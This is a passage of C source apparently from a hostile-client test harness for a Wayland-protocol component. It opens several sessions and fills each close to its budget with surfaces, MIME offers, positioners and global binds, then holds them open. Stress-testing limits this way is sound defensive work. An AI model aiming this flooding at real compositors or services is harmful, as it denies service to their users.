	mime[sizeof(mime) - 1] = '\0';
	while (f->s.ddm && used + FILL_MIME_COST <= bytes) {
		if (!fill_room(f, out, 16 + sizeof(mime) + 8))
			return false;
		if (types % FILL_MIME_PER_SOURCE == 0)
			source = fill_new(f, out, f->s.ddm,
				IVWL_REQ_WL_DATA_DEVICE_MANAGER_CREATE_DATA_SOURCE);
		if (!source)
			break;
		snprintf(mime, 12, "x/%08x", types);
		mime[strlen(mime)] = 'm';
		ivwl_out_begin(out, source, IVWL_REQ_WL_DATA_SOURCE_OFFER);
		ivwl_out_string(out, mime);
		ivwl_out_end(out);
		used += FILL_MIME_COST;
		types++;
	}
	return true;
}

/* The rest of the slot's share: positioners, then xdg_wm_base binds. */
static bool
fill_objects(struct fill *f, struct ivwl_out *out)
{
	uint32_t positioners = 0;

	while (f->objects < f->share) {
		if (!fill_room(f, out, 48))
			return false;
		if (positioners < FILL_CONN_POSITIONERS) {
			fill_new(f, out, f->s.wm_base,
				 IVWL_REQ_XDG_WM_BASE_CREATE_POSITIONER);
			positioners++;
			continue;
		}
		ivwl_out_bind(out, f->s.g.wm_base, "xdg_wm_base", 1,
			      new_id(&f->s));
		f->objects++;
	}
	return true;
}

static bool
fill_slot(struct ivwl_hostile *h, struct fill *f, uint32_t k,
	  uint32_t surfaces, uint32_t mime_bytes)
{
	struct ivwl_out out;

	if (!sem_start(h, k, &f->s))
		return false;
	f->objects = FILL_SESSION_OBJECTS;
	ivwl_out_reset(&out);
	if (!fill_surfaces(f, &out, surfaces) || !fill_regions(f, &out) ||
	    !fill_mime(f, &out, mime_bytes) || !fill_objects(f, &out))
		return false;
	return storm_send(&f->s, &out) &&
	       ivwl_hostile_roundtrip(h, k, NULL, NULL, 20000);
}

void
ivwl_hostile_budget_fill(struct ivwl_hostile *h)
{
	static struct fill fills[IVWL_SLOT_COUNT];
	uint32_t k, filled = 0, surfaces, mime, vm_left;
	uint32_t left_surfaces = FILL_VM_SURFACES;
	uint32_t left_mime = FILL_VM_MIME_BYTES;

	/* every session needs its few objects, whatever comes before */
	vm_left = FILL_VM_OBJECTS - h->slots * FILL_SESSION_OBJECTS;
	for (k = 0; k < h->slots && ivwl_hostile_time_left(h); k++) {
		surfaces = left_surfaces < FILL_CONN_SURFACES ?
			   left_surfaces : FILL_CONN_SURFACES;
		mime = left_mime < FILL_CONN_MIME_BYTES ? left_mime :
							  FILL_CONN_MIME_BYTES;
		/* a little under the limits: ids wait for delete_id */
		fills[k].share = FILL_SESSION_OBJECTS +
			(vm_left < FILL_CONN_OBJECTS - 64 ? vm_left :
			 FILL_CONN_OBJECTS - 64);
		if (!fill_slot(h, &fills[k], k, surfaces, mime)) {
			printf("hostile-peer: budget-fill: slot %u was ended "
			       "while filling\n", k);
			break;
		}
		left_surfaces -= surfaces;
		left_mime -= mime / FILL_MIME_COST * FILL_MIME_COST;
		vm_left -= fills[k].objects - FILL_SESSION_OBJECTS;
		filled++;
	}
	printf("hostile-peer: budget-fill: %u slots filled, holding\n", filled);
	fflush(stdout);
	while (ivwl_hostile_time_left(h))
		for (k = 0; k < filled; k++)
			ivwl_hostile_roundtrip(h, k, NULL, NULL, 200);
}
